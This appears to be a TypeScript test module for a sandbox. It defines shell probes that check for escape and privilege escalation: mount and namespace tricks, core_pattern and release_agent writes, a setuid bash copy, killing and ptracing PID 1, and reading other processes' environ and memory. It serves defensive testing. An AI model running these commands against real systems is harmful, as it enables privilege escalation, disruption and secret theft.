import type { Attack } from '../attack.ts'

const hasTools = (...names: readonly string[]) =>
  `command -v ${names.join(' ')} >/dev/null && [ "$(command -v ${names.join(' ')} | wc -l)" = ${names.length} ] && echo CONTROL`

/** Root, the kernel, another namespace, a file outside. */
export const climbs: Attack = {
  family: 'privileges',
  title: 'climbs out through root, mounts, namespaces, devices and set-uid programs',
  script: `
PATH=$PATH:/usr/sbin:/sbin
${hasTools('mount', 'unshare', 'nsenter', 'mknod', 'chroot', 'find')}
sudo -n true 2>/dev/null && echo 'WON sudo'
mount -t tmpfs none /mnt 2>/dev/null && echo 'WON mount'
unshare -Ur true 2>/dev/null && echo 'WON user namespace'
unshare -m true 2>/dev/null && echo 'WON mount namespace'
nsenter -t 1 -m true 2>/dev/null && echo 'WON namespaces of PID 1'
mknod /tmp/disk b 8 0 2>/dev/null && echo 'WON device'
chroot / true 2>/dev/null && echo 'WON chroot'
touch /usr/bin/planted /etc/planted 2>/dev/null && echo 'WON root file system'
(echo x > /proc/sys/kernel/core_pattern) 2>/dev/null && echo 'WON core pattern'
(echo 1 > /proc/sys/net/ipv4/ip_forward) 2>/dev/null && echo 'WON sysctl'
(echo x > /sys/fs/cgroup/memory/release_agent) 2>/dev/null && echo 'WON release agent'
head -c 1 /proc/kcore 2>/dev/null | grep -q . && echo 'WON kernel memory'
dmesg >/dev/null 2>&1 && echo 'WON kernel log'
cp /bin/bash /tmp/shell && chmod u+s /tmp/shell && [ "$(/tmp/shell -pc 'id -u')" != "$(id -u)" ] && echo 'WON setuid'
rm -f /tmp/shell
find / -xdev -perm -4000 -user root -type f 2>/dev/null | while read -r program; do
  timeout 2 "$program" -c id </dev/null 2>/dev/null | grep -q uid=0 && echo "WON $program"
done
[ "$(id -u)" = 0 ] && echo 'WON root'
for set in CapEff CapPrm CapBnd CapAmb; do
  grep -Eq "^$set:\\s*0+$" /proc/self/status || echo "WON $set"
done
grep -Eq '^NoNewPrivs:\\s*1$' /proc/self/status || echo 'WON new privileges'
grep -Eq '^Seccomp:\\s*2$' /proc/self/status || echo 'WON unfiltered system calls'
true`,
}

/** PID 1 is what ends the sandbox in time. */
export const takesGate: Attack = {
  family: 'privileges',
  title: 'ends, stops, traces and looks into the process that ends the sandbox',
  script: `
head -c 1 /proc/self/environ >/dev/null 2>&1 && ls /proc/self/root/ >/dev/null 2>&1 && echo CONTROL
kill -9 1 2>/dev/null && echo 'WON kill'
kill -STOP 1 2>/dev/null && echo 'WON stop'
for what in environ maps mem root/ cwd/ fd/ auxv stack syscall; do
  head -c 1 "/proc/1/$what" >/dev/null 2>&1 && echo "WON /proc/1/$what"
  ls "/proc/1/$what/" >/dev/null 2>&1 && echo "WON /proc/1/$what"
done
(echo 1 > /proc/1/oom_score_adj) 2>/dev/null && echo 'WON oom_score_adj'
python3 - <<'END'
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, 1, 0, 0) == 0: print('WON ptrace')
END
true`,
}

/** The gate's, the database's, the workspace's own. In a container of one's own they are root's. */
export const takesOthers: Attack = {
  family: 'privileges',
  title: 'ends and looks into every process that is not its own',
  script: `
for each in /proc/[0-9]*; do
  [ "$(stat -c %u "$each" 2>/dev/null || echo 1000)" = 1000 ] && continue
  echo CONTROL
  for what in environ mem; do head -c 1 "$each/$what" >/dev/null 2>&1 && echo "WON $each/$what"; done
  for what in root fd; do ls "$each/$what/" >/dev/null 2>&1 && echo "WON $each/$what"; done
  [ "$each" = "/proc/$$" ] || { kill -9 "\${each#/proc/}" 2>/dev/null && echo "WON kill $each"; }
done
true`,
}
